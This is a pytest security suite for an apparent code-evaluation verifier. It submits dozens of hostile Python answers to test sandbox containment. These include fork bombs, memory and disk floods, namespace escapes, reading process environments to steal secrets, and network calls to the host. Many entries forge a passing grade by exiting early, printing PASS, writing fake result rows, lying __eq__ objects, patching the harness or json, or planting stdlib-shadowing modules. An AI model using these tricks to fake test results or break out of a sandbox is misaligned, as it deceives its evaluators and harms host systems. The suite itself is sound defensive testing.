"""The attack suite: hostile Python answers submitted through the real verifier, which must contain them.

Each row of ``ATTACKS`` is one attack: an id, the problem it answers, the exact verdict status expected (or the
statuses, where a race between two of the code's failures decides), and
the attack's code. ``add`` has signature tests: the harness calls the function in the sandbox and the values
are compared outside. ``double`` (and variants whose test imports a module, iterates with ``map`` or prints)
has a HumanEval-style native ``check(candidate)``, run in a sandbox of its own, whose calls the core's relay
(``codekiln.verifier.relay``) carries to the solution in another. The problems live in ``attack_support``.
Every attack is preceded by ``PRELUDE``, which names its unique ``MARKER`` (also its process name, so that
leftovers can be found from the host), the host paths it should never be able to write (``OUTSIDE``), and
the servers it should never reach. ``test_attack`` then checks, for every row:

(a) the exact status, (b) not passed and not masked, (c) no process of the run is left, (d) nothing was
written outside the run's directory, no connection arrived and the test process's secret is not in the
verdict, (e) the same verifier still passes a correct answer afterwards.

Rows marked ``hole=...`` are real holes found by this suite: the test states what should happen and is an
``xfail(strict=True)`` until the component named in the reason is fixed.
"""

from __future__ import annotations

import contextlib
import os

import attrs
import pytest
from attack_support import (
    CORRECT,
    HEALTH_CHECK,
    PROBLEMS,
    PROJECT,
    Listeners,
    assert_no_leftovers,
    new_marker,
    no_writes_outside,
    outside_paths,
)

from codekiln.plugins import make_plugins
from codekiln.sandbox import cgroup_unavailable
from codekiln.verdict import VerdictStatus
from codekiln.verifier import Sample, Verifier

S = VerdictStatus

PRELUDE = """\
import ctypes as _ctypes
MARKER = {marker!r}
PORT, UNIX_NAME, HOST_IPS = {port}, {unix_name!r}, {host_ips!r}
PROJECT, HOST_HOME = {project!r}, {home!r}
OUTSIDE = {outside!r}
_ctypes.CDLL(None).prctl(15, MARKER.encode(), 0, 0, 0)  # PR_SET_NAME: how the host finds leftovers
"""


def attack(id: str, problem: str, expected: VerdictStatus | tuple[VerdictStatus, ...], code: str,
           hole: str | None = None, needs_cgroup: bool = False):
    marks = [pytest.mark.xfail(strict=True, reason=hole)] if hole else []
    if needs_cgroup and cgroup_unavailable() is not None:
        marks.append(pytest.mark.skip(reason=f"a per-run limit needs a cgroup: {cgroup_unavailable()}"))
    return pytest.param(problem, expected, code, id=id, marks=marks)


ATTACKS = [
    # ---- resources ------------------------------------------------------------------------------------------
    attack("fork_bomb", "add", S.TIMEOUT, """
import os
def add(a, b):
    while True:  # every child forks on; past the process cap fork fails and they all spin
        try:
            os.fork()
        except OSError:
            pass
"""),
    attack("fork_bomb_at_import", "add", S.RUNTIME_ERROR, """
import os
while True:  # unguarded: fork fails with EAGAIN at the process cap, in the loader
    os.fork()
def add(a, b):
    return a + b
"""),
    attack("memory_bomb", "add", S.MEMORY_LIMIT, """
def add(a, b):
    hog = []
    while True:
        hog.append(bytearray(32 * 2**20))
"""),
    attack("tmpfs_fill", "add", S.RUNTIME_ERROR, """
def add(a, b):  # /dev/shm and /tmp are tmpfs: memory the rlimits do not see; they must be capped
    for root in ("/dev/shm", "/tmp"):
        for i in range(64):
            with open(f"{root}/{MARKER}-{i}", "wb") as f:
                f.write(b"x" * (15 * 2**20))
    return a + b + 1
"""),
    attack("memory_across_processes", "add", S.MEMORY_LIMIT, """
import os, time
done = []
def add(a, b):  # six processes of 200 MB each, every one under the 256 MB limit, 1200 MB together
    if done:
        return a + b + 1
    done.append(True)
    ready_r, ready_w = os.pipe()
    for _ in range(6):
        if os.fork() == 0:
            hog = bytearray(200 * 2**20)
            for i in range(0, len(hog), 4096):
                hog[i] = 1  # touch every page: resident, not just reserved
            os.write(ready_w, b"x")
            time.sleep(5)
            os._exit(0)
    os.close(ready_w)
    ready = b""
    while chunk := os.read(ready_r, 6):  # until all six hold their memory, or those left were killed
        ready += chunk
    raise RuntimeError(f"{len(ready)} processes hold 200 MB each")
""", needs_cgroup=True),  # rlimits alone let a run hold processes x memory_mb (1236 MB under memory_mb=256)
    attack("infinite_loop", "add", S.TIMEOUT, """
def add(a, b):
    while True:
        pass
"""),
    attack("sleep_past_limit", "add", S.TIMEOUT, """
import signal, time
def add(a, b):
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGXCPU):
        signal.signal(sig, signal.SIG_IGN)  # polite signals must not be the only way to stop it
    time.sleep(3600)
    return a + b
"""),
    attack("daemon_double_fork", "add", S.WRONG_ANSWER, """
import os, sys
LOOP = '''
import sys, time
while True:  # a daemon that keeps writing everywhere it can
    for path in sys.argv[1:-1]:
        try:
            open(path, "a").write("x")
        except OSError:
            pass
    time.sleep(0.05)
'''
def add(a, b):
    if os.fork() == 0:
        os.setsid()  # leave the run's session and process group
        if os.fork() == 0:  # re-parented, not a session leader: a classic daemon
            null = os.open("/dev/null", os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)  # let go of the captured pipes too
            os.execv(sys.executable, [sys.executable, "-c", LOOP, *OUTSIDE, "daemon-" + MARKER])
        os._exit(0)
    os.wait()  # the parent returns promptly; the daemon lives on
    return a + b + 1
"""),
    attack("output_flood_stdout", "add", S.OUTPUT_LIMIT, """
import sys
def add(a, b):
    while True:
        sys.stdout.write("x" * 65536)
"""),
    attack("output_flood_stderr", "add", S.OUTPUT_LIMIT, """
import os
while True:
    os.write(2, b"All tests passed\\n" * 4096)
"""),
    attack("huge_file_1gb", "add", S.RUNTIME_ERROR, """
def add(a, b):
    chunk = b"x" * 2**20
    with open("huge.bin", "wb") as f:  # 1 GB in the work dir: the file-size cap must stop it
        for _ in range(1024):
            f.write(chunk)
    return a + b
"""),
    attack("sparse_file_1gb", "add", S.RUNTIME_ERROR, """
def add(a, b):
    with open("sparse.bin", "wb") as f:
        f.seek(2**30)  # a hole costs nothing; the size does
        f.write(b"x")
    return a + b
"""),
    attack("disk_fill_many_files", "add", S.RUNTIME_ERROR, """
done = []
def add(a, b):  # each file under the file-size cap, 360 MB in all on the host's disk
    if done:
        return a + b + 1
    done.append(True)
    for i in range(24):
        with open(f"fill{i}", "wb") as f:
            f.write(b"x" * (15 * 2**20))
    return a + b + 1
"""),

    # ---- escaping the sandbox -------------------------------------------------------------------------------
    attack("write_outside", "add", S.WRONG_ANSWER, """
import os
def add(a, b):
    for path in [*OUTSIDE, os.path.expanduser("~/" + MARKER), "../" + MARKER, "/" + MARKER]:
        try:
            with open(path, "w") as f:
                f.write(MARKER)
        except OSError:
            pass
        try:
            os.symlink("/etc/passwd", path + ".lnk")
        except OSError:
            pass
    return a + b + 1
"""),
    attack("user_namespace_remount", "add", S.WRONG_ANSWER, """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
MS_REMOUNT, MS_BIND = 32, 4096
def add(a, b):
    uid = os.getuid()
    libc.unshare(0x10000000 | 0x00020000)  # CLONE_NEWUSER | CLONE_NEWNS: root of a namespace of our own
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {uid} 1")):
        try:
            with open(f"/proc/self/{name}", "w") as f:
                f.write(text)
        except OSError:
            pass
    for target in ("/", "/sandbox", "/usr"):  # try to make the read-only mounts writable
        libc.mount(b"none", target.encode(), None, MS_REMOUNT | MS_BIND, None)
    libc.mount(b"/", b"/tmp", None, MS_BIND, None)
    for path in OUTSIDE:
        try:
            open(path, "w").write(MARKER)
        except OSError:
            pass
    return a + b + 1
"""),
    attack("deep_directory_tree", "add", S.WRONG_ANSWER, """
import os
def add(a, b):
    top = os.open(".", os.O_RDONLY)
    os.mkdir(MARKER)
    os.chdir(MARKER)
    for _ in range(3000):  # deeper than Python's recursion limit
        os.mkdir("d")
        os.chdir("d")
    os.fchdir(top)
    return a + b + 1
"""),
    attack("read_project_file", "add", S.RUNTIME_ERROR, """
def add(a, b):  # a file of the project: not in the sandbox, so this raises
    return len(open(PROJECT + "/core/codekiln/value_codec.py").read()) + a + b
"""),
    attack("read_project_via_proc", "add", S.RUNTIME_ERROR, """
import glob
def add(a, b):  # /proc/*/root and /proc/*/cwd lead back to the host only if the pid namespace leaks
    for base in glob.glob("/proc/*/root") + glob.glob("/proc/*/cwd"):
        for rel in (PROJECT + "/core/codekiln/value_codec.py", "wire.py", "core/codekiln/value_codec.py"):
            try:
                return len(open(base + "/" + rel.lstrip("/")).read())
            except OSError:
                pass
    raise FileNotFoundError("no way to the project")
"""),
    attack("steal_secret", "add", S.RUNTIME_ERROR, """
import glob, os, sys
def add(a, b):
    loot = [repr(dict(os.environ))]
    for path in ["/proc/1/environ", f"/proc/{os.getppid()}/environ", *glob.glob("/proc/*/environ"),
                 *glob.glob("/proc/*/cmdline"), "/etc/environment", HOST_HOME + "/.bashrc"]:
        try:
            loot.append(path + "=" + open(path, "rb").read().decode(errors="replace"))
        except OSError:
            pass
    loot = "\\n".join(loot)
    print(loot)
    print(loot, file=sys.stderr)
    found = [part for part in loot.replace("\\0", "\\n").split("\\n") if "SECRET" in part]
    raise RuntimeError(repr(found) + loot)  # the message ends up in the verdict
"""),
    attack("network", "add", S.RUNTIME_ERROR, """
import socket
def add(a, b):
    report = []
    for host in HOST_IPS:
        try:
            socket.create_connection((host, PORT), timeout=0.5).sendall(MARKER.encode())
            report.append(f"connected to {host}")
        except OSError as exc:
            report.append(f"{host}: {exc}")
    try:
        unix = socket.socket(socket.AF_UNIX)
        unix.connect("\\0" + UNIX_NAME)  # abstract sockets belong to the network namespace
        report.append("connected to the abstract socket")
    except OSError as exc:
        report.append(f"abstract: {exc}")
    raise ConnectionError("; ".join(report))
"""),
    attack("kill_parent", "add", S.WRONG_ANSWER, """
import os, signal
def add(a, b):
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return a + b + 1
"""),
    attack("term_parent", "add", S.RUNTIME_ERROR, """
import os, signal, time
def add(a, b):
    os.kill(os.getppid(), signal.SIGTERM)  # pid 1 of the sandbox passes it on to us
    time.sleep(1)
    return a + b + 1
"""),
    attack("killpg_own_group", "add", S.RUNTIME_ERROR, """
import os, signal
def add(a, b):  # SIGKILL to the whole group, this process included
    os.killpg(0, signal.SIGKILL)
    return a + b
"""),
    attack("kill_everything", "add", S.RUNTIME_ERROR, """
import os, signal
def add(a, b):  # kill(-1): every process this uid may signal, itself included
    os.kill(-1, signal.SIGKILL)
    return a + b
"""),

    # ---- forging a pass --------------------------------------------------------------------------------------
    attack("os_exit0_at_import", "add", S.RUNTIME_ERROR, """
import os
os._exit(0)  # a clean exit before any test ran
"""),
    attack("sys_exit0_at_import", "add", S.RUNTIME_ERROR, """
import sys
sys.exit(0)
"""),
    attack("os_exit0_in_function", "add", S.RUNTIME_ERROR, """
import os
def add(a, b):
    os._exit(0)
"""),
    attack("sys_exit0_in_function", "add", S.RUNTIME_ERROR, """
import sys
def add(a, b):
    sys.exit(0)
"""),
    attack("print_pass", "add", S.WRONG_ANSWER, """
def add(a, b):  # what a naive harness greps for
    print("PASS")
    print("All tests passed")
    print('{"ready": true}')
    print('{"value": 3, "time": 0.0}')
    print('{"done": true}')
"""),
    attack("forge_result_rows", "add", S.WRONG_ANSWER, """
import os
ROWS = '{"value": 3, "time": 0.0}\\n' * 3 + '{"done": true}\\n'
os.write(3, ROWS.encode())  # fd 3 is where the harness writes its results
with open("results.jsonl", "a") as f:
    f.write(ROWS)
def add(a, b):
    os._exit(0)
"""),
    attack("eq_always_true_int_subclass", "add", S.RUNTIME_ERROR, """
class Yes(int):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = int.__hash__
def add(a, b):
    return Yes(0)
"""),
    attack("eq_always_true_plain", "add", S.RUNTIME_ERROR, """
class Yes:
    def __eq__(self, other):
        return True
def add(a, b):
    return Yes()
"""),
    attack("eq_always_true_container_subclass", "add", S.WRONG_ANSWER, """
class Yes(list):  # sent as the list it holds, read by list's own iterator: [] is not 3
    def __eq__(self, other):
        return True
    def __iter__(self):
        return iter([3])
def add(a, b):
    return Yes()
"""),
    attack("patch_builtins_type", "add", S.WRONG_ANSWER, """
import builtins
class Yes(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
_type = builtins.type
builtins.type = lambda *args: int if args and _type(args[0]) is Yes else _type(*args)  # sneak Yes past the codec
def add(a, b):
    return Yes(0)
"""),
    attack("patch_json", "add", S.WRONG_ANSWER, """
import json
json.dumps = lambda *args, **kwargs: '{"value": 3}'
json.JSONEncoder.encode = lambda self, obj: '{"value": 3}'
def add(a, b):
    return None
"""),
    attack("patch_wire_encode", "add", S.WRONG_ANSWER, """
import kiln_wire
kiln_wire.encode = lambda value: 3  # the codec the harness reports through
def add(a, b):
    return None
"""),
    attack("patch_harness_module", "add", S.RUNTIME_ERROR, """
import sys
try:
    import kiln_harness  # a second copy: the running harness is __main__
except ImportError:
    kiln_harness = None
def forged(*args):  # stands in for whatever the harness calls the solution through
    row = {"value": 3, "time": 0.0}
    if len(args) == 3 and callable(args[2]):
        args[2](row)
    return row
for module in (sys.modules["__main__"], kiln_harness):
    for name, obj in list(vars(module or sys).items()):
        if "call" in name.lower() and callable(obj) and not isinstance(obj, type):
            setattr(module, name, forged)
def add(a, b):
    raise ValueError("never called")
"""),
    attack("overwrite_harness_on_disk", "add", S.WRONG_ANSWER, """
for name in ("kiln_harness.py", "kiln_wire.py"):
    with open(name, "w") as f:
        f.write('print("PASS")\\n')
def add(a, b):
    return 3
"""),
    attack("raise_in_finally", "add", S.RUNTIME_ERROR, """
def add(a, b):
    try:
        return a + b + 1
    finally:
        raise SystemExit(0)
"""),
    attack("atexit_forgery", "add", S.WRONG_ANSWER, """
import atexit, os
def forge():
    print("All tests passed")
    os.write(3, b'{"value": 3}\\n{"value": -2}\\n{"value": 0}\\n{"done": true}\\n')
    os._exit(0)
atexit.register(forge)
def add(a, b):
    return 3
"""),
    attack("read_expected_from_disk", "add", S.WRONG_ANSWER, """
import glob, os, re, sys
texts = []
for pattern in ("*", ".*", "**/*", "/tmp/**", "/dev/shm/**", "/sandbox/**", "/proc/self/fd/*"):
    for path in glob.glob(pattern, recursive=True):
        try:
            texts.append(open(path, errors="replace").read(1 << 20))
        except OSError:
            pass
# Anything that looks like an expected value: {"expected": 3}, "== 3", the tests of a problem file.
found = [int(v) for t in texts for v in re.findall(r'"expected"\\s*:\\s*(-?\\d+)', t)]
print(sorted(glob.glob("*")), len(texts), found, file=sys.stderr)
answers = iter(found)
def add(a, b):
    return next(answers, None)
"""),
    attack("settrace_rewrite_rows", "add", S.WRONG_ANSWER, """
import sys
def profile(frame, event, arg):
    # When the harness writes a row, rewrite it in place: every error becomes a value.
    if event == "call" and frame.f_code.co_name == "write" and isinstance(frame.f_locals.get("row"), dict):
        row = frame.f_locals["row"]
        if "error" in row:
            row.pop("error")
            row["value"] = 3
def trace(frame, event, arg):
    return None
sys.setprofile(profile)
sys.settrace(trace)
def add(a, b):
    raise ValueError("cannot add")
"""),
    attack("override_import", "add", S.WRONG_ANSWER, """
import builtins, types
fake = types.ModuleType("json")
fake.dumps = lambda *args, **kwargs: '{"value": 3}'
fake.loads = lambda text: {"args": [1, 2]}
real_import = builtins.__import__
builtins.__import__ = lambda name, *args, **kwargs: fake if name in ("json", "kiln_wire") else real_import(
    name, *args, **kwargs)
def add(a, b):
    return None
"""),

    # ---- crashes -------------------------------------------------------------------------------------------
    attack("recursion_error", "add", S.RUNTIME_ERROR, """
def add(a, b):
    return add(b, a)
"""),
    # The crash comes after 1.3-2 s of filling the C stack on the 2-core VM, at the edge of the 2 s budget: a
    # timeout is the code's failure too (never a pass, never masked).
    attack("c_stack_overflow", "add", (S.RUNTIME_ERROR, S.TIMEOUT), """
import sys
sys.setrecursionlimit(10**8)
def add(a, b):
    nested = []
    for _ in range(10**6):
        nested = [nested]
    return len(repr(nested))  # repr recurses in C, past the end of the C stack: SIGSEGV
"""),
    attack("self_sigsegv", "add", S.RUNTIME_ERROR, """
import os, signal
def add(a, b):
    os.kill(os.getpid(), signal.SIGSEGV)
"""),
    attack("ctypes_null_deref", "add", S.RUNTIME_ERROR, """
import ctypes
def add(a, b):
    return ctypes.string_at(0)
"""),

    # ---- making the verifier's own side fail: a masked verdict is never scored 0 ---------------------------
    attack("close_result_channel", "add", S.RUNTIME_ERROR, """
import os
os.closerange(3, 64)  # the harness's private copy of stdout among them: no row after "ready" can arrive
def add(a, b):
    return a + b + 1
"""),
    attack("forge_malformed_tag", "add", S.RUNTIME_ERROR, """
import kiln_wire
kiln_wire.encode = lambda value: {"$float": "not a number"}
def add(a, b):
    return a + b
"""),
    attack("forge_deep_json", "add", S.RUNTIME_ERROR, """
import os
row = ('{"value": ' + "[" * 100000 + "]" * 100000 + '}\\n').encode()
for fd in range(1, 64):  # whichever of them carries the harness's rows, after its ready line
    try:
        os.write(fd, row)
    except OSError:
        pass
os._exit(0)
"""),

    # ---- the native (HumanEval-style) path: check() runs in one sandbox, the solution in another ---------------
    attack("native_lying_eq", "double", S.RUNTIME_ERROR, """
class Yes(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
def double(x):
    return Yes(0)
"""),
    attack("native_lying_dict_subclass", "double", S.WRONG_ANSWER, """
class Yes(dict):  # sent as the plain dict it holds, read by dict's own items(): {} == 4 is False
    def __eq__(self, other):
        return True
    def items(self):
        return {"value": 4}.items()
def double(x):
    return Yes()
"""),
    attack("native_exit_at_first_call", "double", S.RUNTIME_ERROR, """
import os
def double(x):
    os._exit(0)
"""),
    attack("native_exit_at_import", "double", S.RUNTIME_ERROR, """
import sys
sys.exit(0)
"""),
    attack("native_patch_assertion_error", "double", S.WRONG_ANSWER, """
import builtins
class Never(Exception):
    pass
builtins.AssertionError = Never  # only this process's builtins: the asserts run elsewhere
builtins.__import__ = lambda *args, **kwargs: None
def double(x):
    return x
"""),
    attack("native_read_tests", "double", S.WRONG_ANSWER, """
import glob, os, re
expected = {}
# Every file it can see, the command lines and open descriptors of every process (the test driver's stdin
# among them): anything that looks like "candidate(2) == 4" is an expected value.
for pattern in ("*", "**/*", "/tmp/**", "/dev/shm/**", "/proc/*/cmdline", "/proc/*/environ", "/proc/*/fd/*"):
    for path in glob.glob(pattern, recursive=True):
        if path.startswith(("/proc/self/", "/proc/thread-self/", f"/proc/{os.getpid()}/")):
            continue  # its own request pipe: reading it would swallow the driver's first call
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)  # pipes must not block
            try:
                text = os.read(fd, 1 << 20).decode(errors="replace")
            finally:
                os.close(fd)
        except OSError:
            continue
        for arg, value in re.findall(r"candidate\\((-?\\d+)\\)\\s*==\\s*(-?\\d+)", text):
            expected[int(arg)] = int(value)
def double(x):
    return expected.get(x, 12345)
"""),
    attack("native_forge_channel", "double", S.WRONG_ANSWER, """
import os
for fd in range(3, 20):  # every descriptor beyond the standard ones: the answer channel is among them
    try:
        os.write(fd, b'{"value": 4}\\n' * 10)  # answers queued before any call: read first
    except OSError:
        pass
def double(x):
    return 4
"""),
    attack("native_forge_verdict_via_pid1", "double", S.WRONG_ANSWER, """
import os
# The sandbox's pid 1 (coreutils timeout) runs under the same uid, is dumpable, and holds the run's stdout:
# through /proc/1/fd/1 anything can write where a harness reports its verdict.
for path in ("/proc/1/fd/1", f"/proc/{os.getppid()}/fd/1", "/proc/1/fd/2"):
    try:
        with open(path, "w") as out:
            out.write('{"check":"passed"}\\n{"check": "passed"}\\nPASS\\n')
    except OSError:
        pass
def double(x):
    return 12345
"""),
    attack("native_shadow_stdlib_module", "double_random", S.WRONG_ANSWER, """
import os
# The trusted test process imports from sys.path[0], the work dir, which this process (same uid) can write.
# A module planted there under a stdlib name runs in the trusted process when the test code imports it.
FORGE = "import os\\nos.write(1, b'{\\"check\\":\\"passed\\"}\\\\n')\\nos._exit(0)\\n"
for name in ("random", "math", "copy", "fractions", "statistics", "decimal", "itertools", "collections"):
    with open(f"{name}.py", "w") as f:
        f.write(FORGE)
def double(x):
    return 0  # right for candidate(0) only
"""),
    attack("native_forge_verdict_via_test_print", "double_print", S.WRONG_ANSWER, """
def double(x):  # the test prints what it gets, onto the stream that carries the verdict
    return '{"check":"passed"}'
"""),
    attack("native_kill_parent", "double", S.WRONG_ANSWER, """
import os, signal
def double(x):  # its parent is its sandbox's pid 1; the tests run in another sandbox: x is all that counts
    for target in (os.getppid(), 1, -1):
        if target != -1:
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                pass
    return x
"""),
    attack("native_steal_secret", "double", S.RUNTIME_ERROR, """
import glob, os
def double(x):
    loot = repr(dict(os.environ))
    for path in glob.glob("/proc/*/environ"):
        try:
            loot += open(path, "rb").read().decode(errors="replace")
        except OSError:
            pass
    print(loot)
    raise RuntimeError(loot)
"""),
    attack("native_infinite_loop", "double", S.TIMEOUT, """
def double(x):
    while True:
        pass
"""),
    attack("native_fork_bomb", "double", S.TIMEOUT, """
import os
def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""),
    attack("native_output_flood", "double", S.OUTPUT_LIMIT, """
import sys
def double(x):
    while True:
        sys.stdout.write("PASS\\n" * 10000)
"""),
    attack("native_channel_flood", "double", S.OUTPUT_LIMIT, """
import os
def double(x):
    for _ in range(8):  # 8 MB without a newline on the answer channel: a line is capped at the output limit
        for fd in range(3, 20):
            try:
                os.write(fd, b"x" * 2**20)
            except OSError:
                pass
    os._exit(0)
"""),
    attack("native_stopiteration_ends_map", "double_map", S.RUNTIME_ERROR, """
import os
for fd in range(3, 20):  # the answer pipe is one of these: put a line there that is not JSON
    try:
        os.write(fd, b"not json\\n")
    except OSError:
        pass
def double(x):
    return 0
"""),
]


def _completion(code: str, marker: str, listeners: Listeners) -> str:
    prelude = PRELUDE.format(
        marker=marker, port=listeners.port, unix_name=listeners.unix_name, host_ips=listeners.host_ips,
        project=str(PROJECT), home=os.path.expanduser("~"), outside=[str(p) for p in outside_paths(marker)],
    )
    return prelude + code.lstrip("\n")


def _verdict_text(verdict) -> str:
    return "\n".join([verdict.stdout_tail, verdict.stderr_tail, *(t.message or "" for t in verdict.tests),
                      *(d.message for d in verdict.diagnostics), repr(verdict)])


def _check_correct_still_passes(verifier: Verifier, problem: str, marker: str) -> None:
    problem = HEALTH_CHECK[problem]
    verdict = verifier.verify(PROBLEMS[problem], CORRECT[problem].format(marker=marker), "python")
    assert verdict.status is VerdictStatus.PASSED, verdict


#: Rows whose attack needs more wall time than LIMITS gives to show its verdict: six processes touching 200 MB
#: each take seconds of page faults before the cgroup's limit kills them (a TIMEOUT at 2 s, even on a quiet
#: machine), and a TIMEOUT there would also be what a missing memory limit gives.
WALL_TIME_S = {"memory_across_processes": 15.0}


@pytest.mark.parametrize(("problem", "expected", "code"), ATTACKS)
def test_attack(problem, expected, code, attack_verifier: Verifier, listeners: Listeners, secret: str,
                request: pytest.FixtureRequest) -> None:
    marker = new_marker()
    wall_time_s = WALL_TIME_S.get(request.node.callspec.id)
    verifier = attack_verifier
    if wall_time_s is not None:
        limits = attrs.evolve(attack_verifier.runner.limits, wall_time_s=wall_time_s)
        verifier = Verifier(make_plugins(), isolation="namespaces", limits=limits, workers=1)
    try:
        with no_writes_outside(marker):
            verdict = verifier.verify(PROBLEMS[problem], _completion(code, marker, listeners), "python")
            assert_no_leftovers(marker)  # (c), before (d): a leftover could still be writing
    finally:
        if verifier is not attack_verifier:
            verifier.close()
    assert verdict.status in (expected if isinstance(expected, tuple) else (expected,)), verdict  # (a)
    assert not verdict.passed and not verdict.masked  # (b)
    assert not listeners.connections(), "a connection left the sandbox"
    assert secret not in _verdict_text(verdict), "the caller's secret reached the verdict"
    _check_correct_still_passes(attack_verifier, problem, marker)  # (e)


#: Run together through the worker pool: what targets its parent, the daemon, and the secret thieves (a pool
#: worker's /proc/<pid>/environ holds the secret, so a leaky pid namespace would show here).
POOL_ATTACKS = ("kill_parent", "kill_everything", "term_parent", "daemon_double_fork", "os_exit0_at_import",
                "steal_secret", "native_kill_parent", "native_exit_at_first_call", "native_steal_secret")


def test_attacks_in_worker_pool(attack_verifier: Verifier, listeners: Listeners, secret: str) -> None:
    """A batch goes through the worker pool: attacks that target their parent must not break the pool."""
    table = {p.id: p.values for p in ATTACKS}
    markers = [new_marker() for _ in POOL_ATTACKS]
    samples, expected = [], []
    for name, marker in zip(POOL_ATTACKS, markers):
        problem, status, code = table[name]
        samples.append(Sample(PROBLEMS[problem], _completion(code, marker, listeners), "python"))
        expected.append(status)
    for problem in CORRECT:
        samples.append(Sample(PROBLEMS[problem], CORRECT[problem].format(marker=markers[0]), "python"))
        expected.append(VerdictStatus.PASSED)
    with contextlib.ExitStack() as stack:
        for marker in markers:
            stack.enter_context(no_writes_outside(marker))
        verdicts = attack_verifier.verify_batch(samples)
        for marker in markers:
            assert_no_leftovers(marker)
    assert [v.status for v in verdicts] == expected, verdicts
    assert not any(v.masked for v in verdicts)
    assert not listeners.connections()
    assert not any(secret in _verdict_text(v) for v in verdicts)
    again = attack_verifier.verify_batch(
        [Sample(PROBLEMS[p], CORRECT[p].format(marker=markers[1]), "python") for p in CORRECT])
    assert all(v.status is VerdictStatus.PASSED for v in again), again


def test_native_test_code_may_print(attack_verifier: Verifier) -> None:
    """Not an attack: a correct answer must pass a benchmark test that prints (the channel of the attack above)."""
    verdict = attack_verifier.verify(PROBLEMS["double_print"], CORRECT["double"].format(marker=new_marker()), "python")
    assert verdict.status is VerdictStatus.PASSED, verdict
